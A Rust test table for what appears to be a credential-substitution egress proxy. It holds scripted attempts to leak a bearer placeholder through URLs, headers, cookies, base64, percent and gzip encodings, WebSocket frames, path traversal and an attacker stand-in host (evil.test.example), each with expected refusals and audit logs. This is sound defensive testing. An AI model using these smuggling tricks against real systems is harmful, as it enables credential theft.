//! Credentials: placeholders sent where they do not belong, in every disguise, and origins that say back what they were sent.

use super::Reach;

pub(super) const LIST: &[Reach] = &[
    Reach {
        row: "S1",
        what: "a placeholder where it is bound: the origin hears the secret, and nobody inside does, however it is said back",
        script: "API = 'api.test.example'\n\
                 def over(target, value=f'Bearer {TOKEN}', **named):\n\
                 \x20   status, body = answer(say(tls(API), get(target, API, f'authorization: {value}\\r\\n', **named)))\n\
                 \x20   words = body + ''.join(base64.b64decode(word + '==').decode('latin-1') for word in body.split() if re.fullmatch('[A-Za-z0-9+/=]{20,}', word))\n\
                 \x20   return f'{status} {\"seen\" if \"Canary\" in words else \"unseen\"}'\n\
                 tell(lambda: over('/v1/things'), lambda: over('/v1/things', 'Basic ' + base64.b64encode(f'me:{TOKEN}'.encode()).decode()))\n\
                 tell(lambda: over('/v1/echo'), lambda: over('/v1/echo', 'Basic ' + base64.b64encode(f'me:{TOKEN}'.encode()).decode()), lambda: over('/v1/echo-head'))\n\
                 c = Second(API); print(c.ask(head('/v1/things', API, more=[('authorization', f'Bearer {TOKEN}')])), c.ask(head('/v1/echo-head', API, more=[('authorization', f'Bearer {TOKEN}')])))\n\
                 tell(lambda: TOKEN.startswith('stk_ph_'))",
        outcome: "200 unseen\n\
                  ended unseen 502 unseen\n\
                  200 502\n\
                  True",
        records: "connection.open api.test.example: over\n\
                  credential.use api: over\n\
                  request.send api.test.example: credential_echoed\n\
                  request.send api.test.example: over",
        heard: "api: GET /v1/echo\n\
                api: GET /v1/echo with the secret\n\
                api: GET /v1/echo-head with the secret, 2 times\n\
                api: GET /v1/things\n\
                api: GET /v1/things with the secret, 2 times\n\
                asked for api.test.example, 6 times",
    },
    Reach {
        row: "S1",
        what: "the same through a WebSocket, whose frames say back what its handshake was sent",
        script: "API = 'api.test.example'\n\
                 more = 'connection: upgrade\\r\\nupgrade: websocket\\r\\nsec-websocket-version: 13\\r\\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\\r\\nsec-websocket-extensions: permessage-deflate\\r\\n'\n\
                 s = tls(API); tell(lambda: ask(s, get('/v1/ws', API, more + f'authorization: Bearer {TOKEN}\\r\\n')))\n\
                 tell(lambda: 'seen' if 'Canary' in heard(say(s, b'\\x81\\5hello')) else 'unseen')",
        outcome: "101\n\
                  unseen",
        records: "connection.open api.test.example: credential_echoed\n\
                  credential.use api: over\n\
                  request.send api.test.example: credential_echoed",
        heard: "api: GET /v1/ws with the secret\n\
                asked for api.test.example",
    },
    Reach {
        row: "S1",
        what: "a placeholder in the URL, in other headers, in encodings, in trailers and bodies, packed and plain, to its host and to others: never the secret",
        script: "API = 'api.test.example'\n\
                 def over(target='/v1/things', host=API, more='', **named):\n\
                 \x20   return lambda: ask(tls(host), get(target, host, more, **named))\n\
                 held = f'authorization: Bearer {TOKEN}\\r\\n'\n\
                 wide = ''.join(f'%{ord(c):02x}' for c in TOKEN)\n\
                 tell(over(f'/v1/{TOKEN}'), over(f'/v1/things?t={TOKEN}'), over(f'/v1/things?t={wide}'), over(f'/v1/{wide}'), over(more=f'x-token: {TOKEN}\\r\\n'), over(more=f'cookie: t={TOKEN}\\r\\n'), over(more=f'{TOKEN}: x\\r\\n'), \
                 over(more=f'authorization: Bearer {base64.b64encode(TOKEN.encode()).decode()}\\r\\n'), over(more=f'authorization: Bearer {wide}\\r\\n'), over(more=f'authorization: Bearer {TOKEN.upper()}\\r\\n'), \
                 over(more=f'authorization: Bearer {TOKEN[:-1]}\\r\\n'), over('/v2/things', more=held), over('/v1/../v2/things', more=held), over(host='twin.test.example', target='/open', more=held))\n\
                 tell(over(method='POST', body=TOKEN), over(method='POST', body=base64.b64encode(TOKEN.encode()).decode()), over(method='POST', more='content-encoding: gzip\\r\\n', body=gzip.compress(TOKEN.encode()).decode('latin-1')))\n\
                 tell(lambda: once(get(host='api.test.example', target='/v1/things', more=held), 'api.test.example')())",
        outcome: "403 200\n\
                  200\n\
                  403",
        records: "connection.open api.test.example: over\n\
                  connection.open api.test.example: refused, no rule\n\
                  connection.open twin.test.example: over\n\
                  request.send api.test.example: over\n\
                  request.send api.test.example: refused, egress:placeholder\n\
                  request.send twin.test.example: refused, egress:placeholder",
        heard: "api: GET /v1/things with a placeholder\n\
                api: POST /v1/things with a placeholder\n\
                api: POST /v1/things, 2 times\n\
                asked for api.test.example, 16 times\n\
                asked for twin.test.example",
    },
    Reach {
        row: "S3",
        what: "a credential at another host, path, port, method, in the clear, over HTTP/2 to another authority, and to the attacker",
        script: "held = [('authorization', f'Bearer {TOKEN}')]\n\
                 more = f'authorization: Bearer {TOKEN}\\r\\n'\n\
                 tell(lambda: ask(tls(), get(more=more)), lambda: Second().ask(head(more=held)), lambda: ask(tls('api.test.example'), get('/v2/x', 'api.test.example', more)), lambda: Second('api.test.example').ask(head('/v2/x', 'api.test.example', more=held)))\n\
                 tell(lambda: Second('api.test.example').ask(head('/v1/x', more=held)), lambda: ask(tls('api.test.example'), get('/v1/x', NAME, more)))\n\
                 tell(once(get(host=EVIL, more=more), EVIL), once(get(more=more)))\n\
                 tell(lambda: ask(tls('tunnel.test.example', check=False), get('/open', 'tunnel.test.example', more)))",
        outcome: "403\n\
                  421\n\
                  403\n\
                  200",
        records: "connection.open api.test.example: over\n\
                  connection.open evil.test.example: refused, no rule\n\
                  connection.open read.test.example: over\n\
                  connection.open tunnel.test.example: over\n\
                  request.send api.test.example: refused, egress:placeholder\n\
                  request.send api.test.example: refused, egress:request\n\
                  request.send read.test.example: refused, egress:placeholder",
        heard: "asked for api.test.example, 4 times\n\
                asked for read.test.example, 3 times\n\
                asked for tunnel.test.example\n\
                tunnel: GET /open with a placeholder",
    },
];
